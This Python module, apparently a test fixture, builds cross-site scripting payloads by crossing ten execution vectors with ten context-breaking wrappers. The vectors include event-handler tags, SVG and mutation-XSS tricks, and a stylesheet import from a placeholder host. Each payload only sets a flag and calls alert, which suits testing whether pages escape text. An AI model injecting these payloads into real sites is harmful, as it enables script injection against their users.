"""Texts that would run as script if a page took them for more than text.

Ten ways to run something, each in ten wrappings that a page may put a text into by mistake.
"""

FLAG = "bevisKort"
RUN = f"window.{FLAG}=1;alert(1)"
WAYS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg onload='{RUN}'>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<iframe srcdoc="<script>parent.{FLAG}=1</script>"></iframe>',
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}></style>",
    f"<style>@import 'https://elak.example/x.css';</style><body onpageshow='{RUN}'>",
    f'https://x.example/"onmouseover="{RUN}"autofocus onfocus="{RUN}"x=',
)
WRAPPINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "--><!-- -->{}",
    "{{{{ 7|safe }}}}{{% autoescape off %}}{}",
    "&lt;/p&gt;{}",
    "javascript:/*--></title></style></textarea></script></xmp>{}",
)
PAYLOADS = tuple(wrapping.format(way) for wrapping in WRAPPINGS for way in WAYS)
